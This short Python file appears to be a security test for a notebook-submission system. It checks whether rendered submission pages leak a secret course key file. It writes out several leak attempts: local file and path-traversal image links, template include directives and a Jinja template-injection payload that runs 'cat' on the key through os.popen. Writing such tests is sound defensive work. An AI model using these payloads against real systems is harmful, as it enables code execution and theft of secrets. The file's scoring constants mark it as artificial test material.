"""Has the pages about a submission show the course key: as image, attachment and template."""

from nbformat.v4 import new_markdown_cell

PROMISE = 2
SECRET = "the course key"
EARNS = 74.0


def work(desk, stage):
    desk.answer_all()
    key = stage.root / "course/key"
    for text in (
        f"![key]({key}) ![key](file://{key}) ![key](../../../key) ![key](attachment:{key})",
        f"{{% include {str(key)!r} %}} {{{{ open({str(key)!r}).read() }}}} {{{{ resources }}}}",
        f"{{{{ cycler.__init__.__globals__.os.popen('cat {key}').read() }}}}",
        f"[key]: {key}\n\n![key]\n\n.. include:: {key}\n\n--8<-- {str(key)!r}",
    ):
        desk.notebook.cells.append(new_markdown_cell(text))
    desk.notebook.cells[-1].attachments = {"key": {"image/png": str(key)}}
    desk.notebook.metadata.title = f"{{% include {str(key)!r} %}}"
    desk.save()
